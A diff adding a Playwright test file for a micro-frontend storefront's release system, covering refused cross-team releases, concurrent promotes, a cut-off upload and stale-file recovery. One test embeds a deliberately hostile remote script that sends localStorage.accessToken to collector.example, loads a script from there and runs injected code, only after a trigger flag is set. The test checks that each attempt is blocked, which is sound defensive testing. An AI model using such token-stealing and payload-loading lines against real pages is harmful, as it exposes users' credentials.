@@ -1,0 +1,153 @@
+import { findPorts } from '../../scripts/lib/ports.ts';
+import { smokeTest } from '../../scripts/lib/release/smoke.ts';
+import { expect, test } from '../fixtures/releasing.ts';
+import { variantOf } from '../fixtures/variants.ts';
+import { blogs, marked, promoteSecond, rollBack, served, why } from '../pages/storefront.ts';
+
+// What is live is one thing for all of them.
+// A smoke test loads each page of a remote.
+test.describe.configure({ mode: 'default', timeout: 90_000 });
+
+test('a hostile remote gets neither through the gate with what is others’, nor out of the page', async ({
+  page,
+  account,
+  enter,
+  market,
+}) => {
+  const buyers = market.team('mfe-buyer');
+  const seller = market.team('mfe-seller');
+  const { revision } = await buyers.status();
+  const [admins] = (await market.team('mfe-admin').status()).releases;
+  const foreign = variantOf('mfe-buyer', {
+    version: '0.9.1',
+    describe: (release) => ({ ...release, name: 'mfe-seller' }),
+  });
+  await expect(buyers.publishFolder(foreign)).rejects.toThrow(/mfe-seller/);
+  await expect(seller.status()).resolves.toMatchObject({ revision });
+  const trespasser = variantOf('mfe-buyer', {
+    version: '0.9.2',
+    describe: ({ routes: [first, ...rest], ...release }) => ({
+      ...release,
+      routes: [{ ...first!, path: '/dashboard/addProduct' }, ...rest],
+    }),
+  });
+  expect((await buyers.publishFolder(trespasser)).code).toBe(0);
+  const promote = { verb: 'promote', body: { version: '0.9.2', ...why } } as const;
+  await expect(buyers.act(promote, revision)).rejects.toMatchObject({
+    code: 'release_refused',
+    reasons: expect.arrayContaining([expect.stringContaining('/dashboard/addProduct')]),
+  });
+
+  // It behaves while it is tested, and only then.
+  const script = `if (localStorage.getItem('provoked')) {
+    const outcomes = (globalThis.outcomes = {});
+    const note = (name) => [() => (outcomes[name] = 'done'), () => (outcomes[name] = 'refused')];
+    fetch('https://collector.example/', { method: 'POST', body: localStorage.accessToken, mode: 'no-cors' }).then(...note('send'));
+    fetch('/remotes/mfe-admin/${admins!.release}/release.json').then((answer) => (outcomes.read = answer.status));
+    const foreign = document.createElement('script');
+    foreign.src = 'https://collector.example/more.js';
+    [foreign.onload, foreign.onerror] = note('load');
+    document.head.append(foreign);
+    const inline = document.createElement('script');
+    inline.textContent = 'globalThis.ranInline = true';
+    document.head.append(inline);
+    try { new Function('globalThis.evaluated = true')(); } catch { outcomes.evaluate = 'refused'; }
+  }`;
+  await buyers.publishVariant('0.9.3', script);
+  const buyer = await account('buyer');
+  const body = { version: '0.9.3', percent: 0, accounts: [buyer.email], ...why };
+  await buyers.carryOut({ verb: 'canary', body });
+  await page.route('https://collector.example/**', (route) => route.fulfill({ body: 'got it' }));
+  await page.addInitScript(() => localStorage.setItem('provoked', '1'));
+  await enter(page, buyer);
+  await expect(async () => {
+    await page.goto('/dashboard/wishlist');
+    await expect(page.getByRole('heading', { name: 'WishList' })).toBeVisible();
+    expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(true);
+  }).toPass({ timeout: 8_000 });
+  await expect
+    .poll(() => page.evaluate(() => (globalThis as { outcomes?: object }).outcomes))
+    .toEqual({ send: 'refused', read: 404, load: 'refused', evaluate: 'refused' });
+  expect(await page.evaluate(() => 'ranInline' in globalThis)).toBe(false);
+  await rollBack(buyers);
+});
+
+test('of two promotes at once one is done, and a publish that is cut off leaves nothing', async ({
+  market,
+}) => {
+  const teams = ['mfe-buyer', 'mfe-seller'].map(market.team);
+  const promotes = await Promise.all(
+    teams.map(async (team) => {
+      await team.publishVariant('0.4.0', `globalThis.fourth = true;`);
+      await team.attachSmoke('0.4.0', await smokeTest(team, '0.4.0', () => {}));
+      return { team, act: { verb: 'promote', body: { version: '0.4.0', ...why } } as const };
+    }),
+  );
+  const { revision } = await teams[0]!.status();
+  const outcomes = await Promise.allSettled(
+    promotes.map(({ team, act }) => team.act(act, revision)),
+  );
+  expect(outcomes.map(({ status }) => status).toSorted()).toEqual(['fulfilled', 'rejected']);
+  const refused = outcomes.find((each) => each.status === 'rejected');
+  expect(refused).toMatchObject({ reason: { status: 412 } });
+  for (const { team, act } of promotes) await team.carryOut(act);
+
+  const [team] = teams;
+  const cut = new ReadableStream({
+    start: (body) =>
+      body.enqueue(
+        new TextEncoder().encode('--b\r\nContent-Disposition: form-data; name="release"\r\n\r\n{'),
+      ),
+    pull: (body) => body.error(new Error('the line is cut')),
+  });
+  const sent = fetch(`${market.url}/api/registry/mfe-buyer/releases`, {
+    method: 'POST',
+    headers: {
+      authorization: `Bearer ${team!.token}`,
+      'content-type': 'multipart/form-data; boundary=b',
+    },
+    body: cut,
+    duplex: 'half',
+  } as RequestInit);
+  await expect(sent).rejects.toThrow();
+  const known = (await team!.status()).releases.length;
+  await team!.publishVariant('0.4.0', `globalThis.fourth = true;`);
+  expect((await team!.status()).releases).toHaveLength(known);
+});
+
+test('a second server process serves what the first one made live, within 5 seconds', async ({
+  page,
+  market,
+}) => {
+  const { site } = await findPorts(4520);
+  const second = await market.addServer(site);
+  await promoteSecond(market.team('mfe-storefront'));
+  await expect.poll(() => served(page, second), { timeout: 5_000 }).toBe('0.2.0');
+  await rollBack(market.team('mfe-storefront'));
+});
+
+test('a tab that outlives the files of its release starts afresh once, and never in a loop', async ({
+  page,
+  market,
+}) => {
+  const storefront = market.team('mfe-storefront');
+  expect(await served(page)).toBeUndefined();
+  let documents = 0;
+  page.on('request', (request) => {
+    if (request.isNavigationRequest()) documents += 1;
+  });
+  await promoteSecond(storefront);
+  // As if they had been removed: a past release's files are kept for 14 days.
+  let gone = true;
+  await page.route('**/remotes/mfe-storefront/**/*blogs*', (route) =>
+    gone ? route.fulfill({ status: 404, body: 'Not found' }) : route.fallback(),
+  );
+  await blogs(page).evaluate((link: HTMLElement) => link.click());
+  await expect(page.getByRole('button', { name: 'Retry' })).toBeVisible({ timeout: 10_000 });
+  expect(documents).toBe(1);
+  expect(await marked(page)).toBe('0.2.0');
+  gone = false;
+  await page.getByRole('button', { name: 'Retry' }).click();
+  await expect(page.getByRole('heading', { name: /prototypal inheritance/i })).toBeVisible();
+  await rollBack(storefront);
+});
